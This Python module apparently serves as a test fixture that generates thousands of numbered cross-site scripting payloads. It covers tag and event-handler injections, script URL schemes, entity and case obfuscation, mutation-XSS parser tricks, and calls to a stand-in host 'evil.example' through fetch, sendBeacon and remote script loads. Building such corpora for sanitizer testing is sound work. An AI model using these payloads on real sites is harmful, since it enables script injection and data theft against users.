"""Thousands of distinct attacks on pages, each of which says its number where it runs, made by rule for these tests.

Put together of where a text may stand (what it would have to break out of), what runs in a browser by itself or by an
event, and the spellings by which filters have been passed. `vectors(7_000)` is the same list on every machine.
"""

from __future__ import annotations

from collections.abc import Callable
from random import Random

HOST = "evil.example"
"""Whom an attack would tell; nothing that is no attack asks it for anything."""

TAGS = (
    "a abbr article aside audio b bdi blockquote body button canvas center code custom-x dd details dialog div"
    " dl em embed fieldset figcaption figure font footer form frame frameset h1 header i iframe image img input"
    " ins isindex keygen label legend li link listing main map mark marquee math menu meta meter nav noscript"
    " object ol option output p param picture plaintext pre progress q rp ruby s script section select slot"
    " small source span strike strong style sub summary sup svg table tbody td template textarea tfoot th time"
    " title tr track u ul var video wbr xmp xss"
).split()
EVENTS = (
    "abort afterprint animationend animationiteration animationstart auxclick beforecopy beforeinput"
    " beforematch beforeprint beforetoggle beforeunload begin blur bounce cancel canplay change click close"
    " command contentvisibilityautostatechange contextmenu copy cuechange cut dblclick drag dragend dragenter"
    " dragover dragstart drop durationchange end ended error finish focus focusin focusout formdata"
    " fullscreenchange gotpointercapture hashchange input invalid keydown keypress keyup load loadeddata"
    " loadedmetadata loadend loadstart message mousedown mouseenter mousemove mouseout mouseover mouseup"
    " mousewheel pagehide pageshow paste pause play playing pointercancel pointerdown pointerenter pointermove"
    " pointerout pointerover pointerrawupdate pointerup popstate progress readystatechange repeat reset resize"
    " scroll scrollend scrollsnapchange search seeked select selectionchange selectstart show slotchange start"
    " submit suspend timeupdate toggle touchend touchmove touchstart transitionend transitionrun"
    " transitionstart unhandledrejection unload volumechange webkitanimationend wheel"
).split()
SCHEMES = (
    "javascript",
    "vbscript",
    "livescript",
    "data",
    "feed:javascript",
    "view-source:javascript",
    "jar:javascript",
)
BREAKS = (
    "", '"', "'", "`", '">', "'>", "`>", '"/>', "-->", "--!>", "]]>", "?>", "%>", "</p>", "</a>", "</b>", "</bdi>",
    "</title>", "</textarea>", "</script>", "</style>", "</noscript>", "</template>", "</svg>", "</math>", "</select>",
    "</table>", "</iframe>", "</xmp>", "</plaintext>", "</li></ul>", "</figcaption></figure>", "</article></section>",
    "<!--", "<![CDATA[", "<!--><", "<?xml ?>", "*/", "//", ";", "}", "};", ")", "\\", '\\"', "\\'", "\u2028", "\u00a0",
    "&quot;>", "&#34;>", "&lt;", "%22%3E", "%3C", "\uff1e", "\ufe64", "\ufeff", "\u200b", "+ADw-", "{{", "{%", "${",
    "#{", "\n\n", "\r\n", "\t", "> ", "# ", "- ", "* ", "1. ", "    ", "```\n", "[x](", "![x](",
    "<https://e.example/>", "|a|\n|-|\n",
)  # fmt: skip
CALLS: tuple[Callable[[int], str], ...] = (
    lambda n: f"ran({n})",
    lambda n: f"alert({n})",
    lambda n: f"window.ran({n})",
    lambda n: f"top['ran']({n})",
    lambda n: f"self[`r`+`an`]({n})",
    lambda n: f"(ran)({n})",
    lambda n: f"ran?.({n})",
    lambda n: f"ran`{n}`",
    lambda n: f"eval('ran({n})')",
    lambda n: f"setTimeout('ran({n})')",
    lambda n: f"Function('ran({n})')()",
    lambda n: f"[{n}].map(ran)",
    lambda n: f"throw onerror=ran,{n}",
    lambda n: f"\\u0072an({n})",
    lambda n: f"\\u{{72}}an({n})",
    lambda n: f"import('//{HOST}/{n}')",
    lambda n: f"new Image().src='//{HOST}/{n}'",
    lambda n: f"fetch('//{HOST}/{n}')",
    lambda n: f"location='//{HOST}/{n}'",
    lambda n: f"open('//{HOST}/{n}')",
    lambda n: f"navigator.sendBeacon('//{HOST}/{n}')",
    lambda n: f"document.body.append(document.createElement('script').src='//{HOST}/{n}')",
    lambda n: f"constructor.constructor('ran({n})')()",
)


def vectors(count: int) -> list[str]:
    """Return so many distinct attacks."""
    chance = Random(20_261_129)
    found: dict[str, None] = {}
    while len(found) < count:
        number = len(found)
        make = _KINDS[number % len(_KINDS)]
        found.setdefault(_spelt(make(number, chance), chance))
    return list(found)


def addresses(count: int) -> list[str]:
    """Return so many distinct attacks in the form of addresses."""
    chance = Random(20_261_130)
    found: dict[str, None] = {}
    while len(found) < count:
        number = len(found)
        call = chance.choice(CALLS)(number)
        scheme = _scheme(chance)
        found.setdefault(
            chance.choice(
                (
                    f"{scheme}:{call}",
                    f"{scheme}://%0a{call}//https://pictures.example/",
                    f"{scheme}:text/html,<script>{call}</script>",
                    f"data:image/svg+xml,<svg onload={call}>",
                    f'https://pictures.example/"on{chance.choice(EVENTS)}="{call}',
                    f"https://pictures.example/'on{chance.choice(EVENTS)}='{call}",
                    f"https://pictures.example/?a={number}`on{chance.choice(EVENTS)}={call}",
                    f"https://pictures.example/{number}#{chance.choice(BREAKS)}<script>{call}</script>",
                    f"https://pictures.example/{number})<svg/onload={call}>",
                    f"https://pictures.example/{number}?{scheme}:{call}",
                    f"//{HOST}/{number}",
                    f"\\\\{HOST}\\{number}",
                    f"https:{HOST}/{number}<{chance.choice(TAGS)}>",
                )
            )
        )
    return list(found)


def _entities(text: str, chance: Random) -> str:
    """Spell each character as an entity, in one of the ways that browsers read."""
    way = chance.choice(("&#{};", "&#x{:x};", "&#X{:X};", "&#0000{};", "&#{}", "&#x00{:x}"))
    return "".join(way.format(ord(sign)) for sign in text)


def _escaped(call: str, chance: Random) -> str:
    return chance.choice((call, call, call, _entities(call, chance), _entities(call[:2], chance) + call[2:]))


def _mixed(word: str, chance: Random) -> str:
    return "".join(chance.choice((sign.lower(), sign.upper())) for sign in word)


def _scheme(chance: Random) -> str:
    scheme = chance.choice(SCHEMES)
    at = chance.randrange(1, len(scheme))
    return chance.choice(
        (
            scheme,
            _mixed(scheme, chance),
            f"{scheme[:at]}{chance.choice(('&Tab;', '&NewLine;', '&#9;', '&#x0A;', '&#13'))}{scheme[at:]}",
            f"{_entities(scheme[:at], chance)}{scheme[at:]}",
            f" {scheme}",
            f"{scheme}&colon;",
            f"%{ord(scheme[0]):x}{scheme[1:]}",
        )
    )


def _element(number: int, chance: Random) -> str:
    tag, event, call = chance.choice(TAGS), chance.choice(EVENTS), chance.choice(CALLS)(number)
    gap = chance.choice((" ", "/", "\t", "\n", " / ", "/x/", "//", "\u000c"))
    quote = chance.choice(('"', "'", "", "`"))
    extra = chance.choice(
        ("", " src=x", " href=x", " tabindex=1 autofocus", " open", " style=display:block", " contenteditable")
    )
    end = chance.choice((">", "//", "", ">x", f">x</{tag}>", "/>", " <", ">>"))
    return (
        f"<{_mixed(tag, chance)}{gap}{_mixed('on' + event, chance)}={quote}{_escaped(call, chance)}{quote}{extra}{end}"
    )


def _script(number: int, chance: Random) -> str:
    call, script = chance.choice(CALLS)(number), _mixed("script", chance)
    return chance.choice(
        (
            f"<{script}>{call}</{script}>",
            f"<{script}/x>{call}</{script} >",
            f"<{script} src=//{HOST}/{number}></{script}>",
            f"<scr<{script}>ipt>{call}</scr</{script}>ipt>",
            f"<svg><{script}>{_entities(call, chance)}</{script}></svg>",
            f"<svg><{script} href=data:,{call} />",
            f"<math><{script}>{call}</{script}></math>",
            f"<{script} type=module>{call}</{script}>",
            f"<{script}>/*<!--*/{call}//-->",
            f"<!--><{script}>{call}</{script}>-->",
            f"<template shadowrootmode=open><{script}>{call}</{script}></template>",
        )
    )


_RELATIONS = ("stylesheet", "import", "preload", "prefetch", "dns-prefetch", "manifest")


def _loading(number: int, chance: Random) -> str:
    address, call = f"//{HOST}/{number}", chance.choice(CALLS)(number)
    return chance.choice(
        (
            f"<iframe src={_scheme(chance)}:{call}>",
            f"<iframe srcdoc='<script>{_entities(call, chance)}</script>'>",
            f"<iframe src={address}></iframe>",
            f"<object data={address}></object>",
            f"<object data={_scheme(chance)}:{call}>",
            f"<embed src={_scheme(chance)}:{call}>",
            f"<link rel={chance.choice(_RELATIONS)} href={address}>",
            f"<style>@import '{address}';</style>",
            f"<style>*{{background:url({address})}}</style>",
            f"<p style=background:url({address})>x",
            f'<p style="x:expression({call})">x',
            f"<meta http-equiv=refresh content='{chance.choice((0, 1))};url={_scheme(chance)}:{call}'>",
            f"<meta http-equiv=refresh content='0;url={address}'>",
            f"<base href={address}/>",
            f"<body background={address}>",
            f"<table background={address}><tr><td>x",
            f"<input type=image src={address}>",
            f"<svg><image href={address} /></svg>",
            f"<svg><use href={address}#x /></svg>",
            f"<svg><feimage href={address} /></svg>",
            f"<a href=x ping={address}>x</a>",
            f"<script src={address}></script>",
            f"<portal src={address}>",
            f"<html manifest={address}>",
        )
    )


def _link(number: int, chance: Random) -> str:
    call, scheme = chance.choice(CALLS)(number), _scheme(chance)
    return chance.choice(
        (
            f"<a href='{scheme}:{_escaped(call, chance)}'>x</a>",
            f"<a href={scheme}:{call} target=_self>x",
            f"<form action='{scheme}:{call}'><input type=submit autofocus></form>",
            f"<button formaction={scheme}:{call} form=x>x",
            f"<math href={scheme}:{call}>x</math>",
            f"<svg><a xlink:href={scheme}:{call}><text y=9>x</text></a></svg>",
            f"<svg><animate xlink:href=#x attributeName=href values={scheme}:{call} /><a id=x><text>x</text></a></svg>",
            f"<svg><set attributeName=on{chance.choice(EVENTS)} to={call} /></svg>",
            f"<area href={scheme}:{call} shape=default>",
            f"<img src={scheme}:{call}>",
            f"<img srcset='{scheme}:{call} 1x' src=x>",
            f"<video poster={scheme}:{call}>",
            f"<blockquote cite={scheme}:{call}>x</blockquote>",
            f"<q cite='{scheme}:{call}'>x</q>",
            f"[x]({scheme}:{call})",
            f"![x]({scheme}:{call})",
            f"<{scheme}:{call}>",
            f"[x]: {scheme}:{call}\n\n[x]",
            f"[x](<{scheme}:{call}> '{call}')",
            f'![" on{chance.choice(EVENTS)}={call} x="](https://pictures.example/{number})',
        )
    )


def _mutating(number: int, chance: Random) -> str:
    """Make what is one thing to a parser and another to the next: foreign content, raw text, what tables push out."""
    call, event = chance.choice(CALLS)(number), chance.choice(("error", "load", "focus", "toggle"))
    payload = f"<img src=x on{event}={call}>"
    outer = chance.choice(("math", "svg"))
    middle = chance.choice(
        ("mtext", "mi", "mo", "mn", "ms", "annotation-xml encoding=text/html", "foreignObject", "desc", "title")
    )
    raw = chance.choice(
        ("style", "xmp", "noscript", "noembed", "noframes", "iframe", "textarea", "title", "script", "plaintext")
    )
    name = middle.split()[0]
    return chance.choice(
        (
            f"<{outer}><{middle}><{raw}>{payload}</{raw}></{name}></{outer}>",
            f"<{raw}><a title='</{raw}>{payload}'>",
            f"<form><{outer}><{middle}></form><form><mglyph><{raw}></{outer}>{payload}",
            f"<{outer}><{middle}><table><mglyph><{raw}><!--</{raw}>{payload}-->",
            f"<table><tr><{raw}>{payload}</{raw}></table>",
            f"<{outer}></p><{raw}><a id='</{raw}>{payload}'>",
            f"<{outer}><![CDATA[><{payload}]]></{outer}>",
            f"<p title='<{raw}>'></{raw}>{payload}",
            f"<select><{raw}><{outer}>{payload}</select>",
            f"<template><{raw}>{payload}</template>",
            f"<!--{chance.choice(('', '>', '->', '!'))}--!>{payload}",
            f"<a><a><{outer}><a>{payload}</a>",
            f"<b><p></b>{payload}</p><{outer}><{name}>",
        )
    )


def _in_text(number: int, chance: Random) -> str:
    """What leaves a text of scripts, styles, templates, headers or JSON."""
    call = chance.choice(CALLS)(number)
    return chance.choice(
        (
            f'";{call};//',
            f"';{call};//",
            f"`;{call};//",
            f"${{{call}}}",
            f"{{{{{call}}}}}",
            f"{{%{call}%}}",
            f"</script><script>{call}</script>",
            f'"}}]}}</script><script>{call}</script>',
            f"\\u003cscript>{call}\\u003c/script>",
            f"\\x3cimg src=x onerror={call}\\x3e",
            f"%3Cscript%3E{call}%3C/script%3E",
            f"&lt;script&gt;{call}&lt;/script&gt;",
            f"&amp;lt;img src=x onerror={call}&amp;gt;",
            f"*/{call}/*",
            f"}}*{{background:url(//{HOST}/{number})}}",
            f"\r\nContent-Type: text/html\r\n\r\n<script>{call}</script>",
            f"x\u2028{call}",
            f"<%= {call} %>",
            f"#{{{call}}}",
            f"\uff1cscript\uff1e{call}\uff1c/script\uff1e",
            f"{_entities('<script>', chance)}{call}{_entities('</script>', chance)}",
        )
    )


_KINDS = (_element, _script, _element, _loading, _link, _mutating, _in_text, _element)


def _spelt(attack: str, chance: Random) -> str:
    """Put an attack behind what it would have to leave, and now and then into another spelling."""
    attack = f"{chance.choice(BREAKS)}{attack}"
    return chance.choice(
        (attack, attack, attack, f"{attack}{chance.choice(BREAKS)}", f"<{attack}", attack.replace("<", "<<", 1))
    )


def in_one_line(vector: str, most: int) -> str:
    """Return an attack as a field of one line takes it, and the beginning of it where that is short."""
    return " ".join(vector.split())[:most].strip() or "x"
